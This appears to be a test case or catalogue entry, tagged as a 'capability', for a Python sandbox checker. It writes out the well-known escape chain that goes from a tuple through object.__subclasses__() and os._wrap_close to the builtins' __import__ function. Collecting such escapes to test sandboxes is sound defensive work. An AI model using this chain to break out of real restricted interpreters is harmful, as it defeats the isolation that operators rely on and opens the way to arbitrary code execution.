# kind: capability
# The classic: from any object to object.__subclasses__(), to a class
# defined in os, to its module's builtins.
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == "_wrap_close":
        payload(c.__init__.__globals__["__builtins__"]["__import__"])
